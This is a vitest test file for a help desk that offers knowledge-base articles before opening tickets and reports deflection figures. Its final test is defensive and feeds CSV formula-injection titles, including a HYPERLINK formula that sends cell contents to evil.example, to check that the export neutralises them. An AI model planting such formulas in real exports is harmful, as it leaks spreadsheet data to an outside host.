import { afterEach, describe, expect, it } from 'vitest';
import { formatReport, slaReport } from '../../src/capabilities/sla/report.js';
import { DEMO_CONFIG_YAML } from '../../src/config/config.js';
import type { Inbound, Person } from '../../src/ports.js';
import { createTestDesk, type TestDesk } from '../support/desk.js';

/**
 * Deflection: a new ticket whose words match published knowledge is offered it first ("This
 * solved it" / "Open the ticket anyway"); every offer and its outcome is recorded and counted.
 */
let desk: TestDesk;
let seq = 0;
afterEach(async () => {
  await desk?.close();
});

const person = (id: string): Person => ({ platform: 'console', space: 'local', id, name: id });
const here = { platform: 'console' as const, space: 'local', channel: 'console' };

function action(user: string, name: string, value: string): Promise<string | undefined> {
  return desk.send({ key: `deflect-test:${++seq}`, at: desk.clock.now(), from: person(user), place: here, kind: 'action', action: name, value });
}

function ticketForm(user: string, args: Record<string, string>): Promise<string | undefined> {
  const event: Inbound = {
    key: `deflect-test:${++seq}`,
    at: desk.clock.now(),
    from: person(user),
    place: here,
    kind: 'command',
    name: 'ticket',
    args: { sub: 'new', ...args },
  };
  return desk.send(event);
}

async function withArticle(yaml = DEMO_CONFIG_YAML): Promise<void> {
  desk = await createTestDesk({ yaml });
  await desk.say('agent2', '/kb add Printer shows offline --body Power-cycle the printer, then re-add it in Settings > Printers. --tags printers');
  await desk.say('agent2', '/kb publish 1');
}

const tickets = () => desk.db.selectFrom('tickets').selectAll().execute();
const offers = () => desk.db.selectFrom('deflections').selectAll().orderBy('created_at').execute();
/** The offer id from the reply's "Open the ticket anyway" button. */
const offerIdOf = (reply: string | undefined) => /\[Open the ticket anyway\] \/deflect open (\S+)/.exec(reply ?? '')?.[1] ?? '';

describe('offering knowledge before a ticket', () => {
  it('offers a matching article instead of opening the ticket, and records the offer', async () => {
    await withArticle();
    const reply = await desk.say('requester', '/ticket new My printer is offline again --description Floor 3, the big one --urgency high');
    expect(reply).toMatch(/Before we open "My printer is offline again": these may answer it:/);
    expect(reply).toMatch(/1\. 📘 Printer shows offline: .*Power-cycle/);
    expect(reply).toContain('/kb show 1');
    const id = offerIdOf(reply);
    expect(reply).toContain(`[This solved it] /deflect solved ${id} article:1`);
    expect(await tickets()).toEqual([]);
    expect(desk.channel('l1-desk')).toEqual([]);

    const [offer] = await offers();
    expect(offer).toMatchObject({ id, requester_key: 'console:requester', outcome: 'offered', helped_by: null, ticket: null });
    expect(JSON.parse(offer!.input)).toEqual({ title: 'My printer is offline again', description: 'Floor 3, the big one', urgency: 'high' });
    expect(JSON.parse(offer!.place)).toEqual(here);
    expect(await desk.db.selectFrom('deflection_docs').selectAll().execute()).toEqual([{ deflection: id, doc: 'article:1', position: 0 }]);
  });

  it('one shared word is not enough to stand between someone and their ticket', async () => {
    await withArticle();
    expect(await desk.say('requester', '/ticket new Printer toner is empty')).toMatch(/Ticket #1 opened/);
    expect(await offers()).toEqual([]);
    // Two words in common (printing ~ printer, offline) are.
    expect(await desk.say('requester', '/ticket new printing says offline')).toMatch(/Printer shows offline/);
    expect(await offers()).toHaveLength(1);
  });

  it('"This solved it" records that the article helped; no ticket is opened, and the article is not voted for', async () => {
    await withArticle();
    const id = offerIdOf(await desk.say('requester', '/ticket new printer offline'));
    expect(await action('requester', 'deflect.solved', `${id} article:1`)).toMatch(/Glad that helped: no ticket was opened/);
    expect(await action('requester', 'deflect.solved', `${id} article:1`)).toMatch(/already told us that solved it/);
    expect(await offers()).toMatchObject([{ outcome: 'helped', helped_by: 'article:1' }]);
    expect(await tickets()).toEqual([]);
    const a = await desk.db.selectFrom('kb_articles').selectAll().where('id', '=', 1).executeTakeFirstOrThrow();
    expect(a).toMatchObject({ helpful: 0, not_helpful: 0 });
    expect(await desk.say('requester', '/kb show 1')).toMatch(/Answered before a ticket: 1 time/);
    expect(await action('requester', 'deflect.solved', `${id} article:7`)).toMatch(/article #7 was not one of the suggestions/);
  });

  it('"Open the ticket anyway" opens exactly one ticket with the original input', async () => {
    await withArticle();
    const id = offerIdOf(
      await desk.say('requester', '/ticket new My printer is offline again --description Floor 3, the big one --urgency high --impact high'),
    );
    expect(await action('requester', 'deflect.open', id)).toMatch(/Ticket #1 opened \(P1, Help desk\)/);
    expect(await action('requester', 'deflect.open', id)).toBe('That ticket is already opened as #1.');
    expect(await desk.say('requester', `/deflect open ${id}`)).toBe('That ticket is already opened as #1.');
    const all = await tickets();
    expect(all).toHaveLength(1);
    expect(all[0]).toMatchObject({
      title: 'My printer is offline again',
      description: 'Floor 3, the big one',
      urgency: 'high',
      impact: 'high',
      requester_id: 'requester',
    });
    expect(desk.channel('l1-desk')[0]).toContain('#1 My printer is offline again');
    expect(desk.dm('requester')[0]).toContain('Ticket #1: My printer is offline again');
    expect(await offers()).toMatchObject([{ outcome: 'opened', ticket: 1 }]);
    // After opening, "this solved it" does not undo the ticket.
    expect(await action('requester', 'deflect.solved', `${id} article:1`)).toMatch(/already opened the ticket anyway \(#1\)/);
  });

  it('two clicks at once still open one ticket', async () => {
    await withArticle();
    const id = offerIdOf(await desk.say('requester', '/ticket new printer offline'));
    const replies = await Promise.all([action('requester', 'deflect.open', id), action('requester', 'deflect.open', id)]);
    expect(replies.filter((r) => /Ticket #1 opened/.test(r ?? ''))).toHaveLength(1);
    expect(replies.filter((r) => /already opened as #1/.test(r ?? ''))).toHaveLength(1);
    expect(await tickets()).toHaveLength(1);
  });

  it('only the person who asked can answer their offer', async () => {
    await withArticle();
    const id = offerIdOf(await desk.say('requester', '/ticket new printer offline'));
    expect(await action('mallory', 'deflect.open', id)).toBe('Only the person who asked can answer these suggestions.');
    expect(await action('agent1', 'deflect.solved', `${id} article:1`)).toBe('Only the person who asked can answer these suggestions.');
    expect(await action('requester', 'deflect.open', 'nope')).toMatch(/There is no offer "nope"/);
    expect(await desk.say('requester', '/deflect open')).toMatch(/Which offer\?/);
    expect(await offers()).toMatchObject([{ outcome: 'offered' }]);
    expect(await tickets()).toEqual([]);
  });

  it('opens at once when nothing matches, with --anyway, from a form with anyway, and when deflection is off', async () => {
    await withArticle();
    expect(await desk.say('requester', '/ticket new Chair is broken')).toMatch(/Ticket #1 opened/);
    expect(await desk.say('requester', '/ticket new printer offline --anyway')).toMatch(/Ticket #2 opened/);
    expect(await ticketForm('requester', { title: 'printer offline on floor 2', anyway: 'true' })).toMatch(/Ticket #3 opened/);
    // The form is offered like the typed command; its free text is kept verbatim.
    const formReply = await ticketForm('requester', { title: 'printer offline', description: 'line one\n-- line two' });
    expect(formReply).toMatch(/these may answer it/);
    expect(JSON.parse((await offers())[0]!.input)).toEqual({ title: 'printer offline', description: 'line one\n-- line two' });
    expect(await action('requester', 'deflect.open', offerIdOf(formReply))).toMatch(/Ticket #4 opened/);
    expect((await tickets()).find((t) => t.number === 4)?.description).toBe('line one\n-- line two');
    await desk.close();

    await withArticle(DEMO_CONFIG_YAML.replace('kb:\n  authors: [L2, L3]', 'kb:\n  authors: [L2, L3]\n  deflection: false'));
    expect(desk.config.kb.deflection).toBe(false);
    expect(await desk.say('requester', '/ticket new printer offline')).toMatch(/Ticket #1 opened/);
    expect(await offers()).toEqual([]);
  });

  it('refuses bad input before offering anything', async () => {
    await withArticle();
    expect(await desk.say('requester', '/ticket new printer offline --urgency extreme')).toMatch(/--urgency must be/);
    expect(await desk.say('requester', '/ticket new --description printer offline')).toMatch(/A ticket needs a title/);
    expect(await offers()).toEqual([]);
  });

  it('does not deflect a ticket made from a message reaction', async () => {
    const yaml = `${DEMO_CONFIG_YAML}slack: { reaction_channels: [C0HELP] }\n`;
    await withArticle(yaml);
    const slack = { platform: 'slack' as const, space: 'T1', channel: 'C0HELP' };
    const reply = await desk.send({
      key: 'deflect-test:reaction',
      at: desk.clock.now(),
      from: { ...person('U1'), platform: 'slack', space: 'T1' },
      place: slack,
      kind: 'reaction',
      emoji: 'ticket',
      message: '1.1',
      text: 'printer offline on floor 3',
    });
    expect(reply).toMatch(/Ticket #1 opened/);
    expect(await offers()).toEqual([]);
  });
});

describe('deflection figures', () => {
  it("/ticket stats and the report show the rate and each article's effectiveness", async () => {
    await withArticle();
    await desk.say('agent2', '/kb add Paper jam in tray 2 --body Open tray 2 and pull the sheet out.');
    await desk.say('agent2', '/kb publish 2');
    const helped = offerIdOf(await desk.say('requester', '/ticket new printer offline'));
    await action('requester', 'deflect.solved', `${helped} article:1`);
    const opened = offerIdOf(await desk.say('requester', '/ticket new printer paper jam'));
    await action('requester', 'deflect.open', opened);
    await desk.say('someone', '/ticket new printer offline since Monday'); // no answer yet

    const stats = await desk.say('agent1', '/ticket stats');
    expect(stats).toMatch(/Deflection: 3 offers, 1 helped, 1 opened anyway, 1 no answer yet; rate 33\.3% \(helped \/ offers\)/);
    // "printer paper jam" shares one word with "Printer shows offline": not enough to stand in the way.
    expect(stats).toMatch(/article:1\s+Printer shows offline\s+2\s+1\s+0\s+1/);
    expect(stats).toMatch(/article:2\s+Paper jam in tray 2\s+1\s+0\s+1\s+0/);

    const report = await slaReport(desk.desk.core, { from: Date.parse('2024-06-01T00:00:00Z'), to: Date.parse('2024-06-04T00:00:00Z'), by: 'tier' });
    expect(report.deflection).toMatchObject({ offers: 3, helped: 1, openedAnyway: 1, noAnswerYet: 1, ratePct: 33.3 });
    expect(report.deflection?.docs).toEqual([
      { doc: 'article:1', title: 'Printer shows offline', offers: 2, helped: 1, openedAnyway: 0, noAnswerYet: 1 },
      { doc: 'article:2', title: 'Paper jam in tray 2', offers: 1, helped: 0, openedAnyway: 1, noAnswerYet: 0 },
    ]);
    expect(JSON.parse(formatReport(report, 'json')).deflection.ratePct).toBe(33.3);
    const csv = formatReport(report, 'csv').split('\n');
    expect(csv[0]).toMatch(/^group,tickets,/);
    expect(csv).toContain('document,title,offers,helped,opened anyway,no answer yet,helped %');
    expect(csv).toContain('all,,3,1,1,1,33.3');
    expect(csv).toContain('article:1,Printer shows offline,2,1,0,1,50');
    // Offers outside the period are not counted.
    const before = await slaReport(desk.desk.core, { from: Date.parse('2024-05-01T00:00:00Z'), to: Date.parse('2024-06-01T00:00:00Z'), by: 'tier' });
    expect(before.deflection).toMatchObject({ offers: 0, ratePct: null, docs: [] });
    expect(formatReport(before, 'table')).toMatch(/Deflection: 0 offers, 0 helped, 0 opened anyway, 0 no answer yet; rate - /);
  });
});

/** Split RFC 4180 CSV into rows of cell values (quotes undone). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
    i++;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

describe('the deflection CSV', () => {
  it('neutralises titles a spreadsheet would run as formulas, and leaves numbers as numbers', async () => {
    desk = await createTestDesk();
    // An offer shows at most three documents: two tickets, each matching its own articles. (A
    // leading tab or CR never gets this far, titles being single cleaned lines; sla-report.test.ts
    // checks those cells on a hand-made report.)
    const hostile: Array<[string, string]> = [
      ['=HYPERLINK("https://evil.example/?"&A1;"x")', 'The printer shows offline: power-cycle it.'],
      ['+SUM(1;2)', 'The printer shows offline: re-add it.'],
      ['-2+3', 'The scanner is jammed: open the lid.'],
      ['@SUM(A1)', 'The scanner is jammed: pull the sheet.'],
    ];
    for (const [i, [title, body]] of hostile.entries()) {
      const event: Inbound = {
        key: `deflect-test:${++seq}`,
        at: desk.clock.now(),
        from: person('agent2'),
        place: here,
        kind: 'command',
        name: 'kb',
        args: { sub: 'add', title, body },
      };
      expect((await desk.send(event)) ?? '').toMatch(/Draft article #\d+ saved/);
      await desk.say('agent2', `/kb publish ${i + 1}`);
    }
    const titles = (await desk.db.selectFrom('kb_articles').select('title').orderBy('id').execute()).map((r) => r.title);
    expect(titles).toEqual(hostile.map(([t]) => t));
    expect(await desk.say('requester', '/ticket new printer offline')).toMatch(/these may answer it/);
    expect(await desk.say('requester', '/ticket new scanner jammed')).toMatch(/these may answer it/);

    const report = await slaReport(desk.desk.core, { from: Date.parse('2024-06-01T00:00:00Z'), to: Date.parse('2024-06-04T00:00:00Z'), by: 'tier' });
    expect(report.deflection?.docs.map((d) => d.title).sort()).toEqual([...titles].sort());
    const text = formatReport(report, 'csv');
    const rows = parseCsv(text);
    const cells = rows.flat();
    const number = /^-?\d+(\.\d+)?$/;
    // No cell a spreadsheet would evaluate, except numbers we wrote ourselves.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !number.test(c))).toEqual([]);
    // The titles are all there, each behind a single quote.
    for (const t of titles) expect(cells).toContain(`'${t}`);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1;""x"")"`);
    // Figures stay bare numbers.
    const doc1 = rows.find((r) => r[0] === 'article:1')!;
    expect(doc1.slice(2)).toEqual(['1', '0', '0', '1', '0']);
    expect(text).toContain('all,,2,0,0,2,0');
  });
});
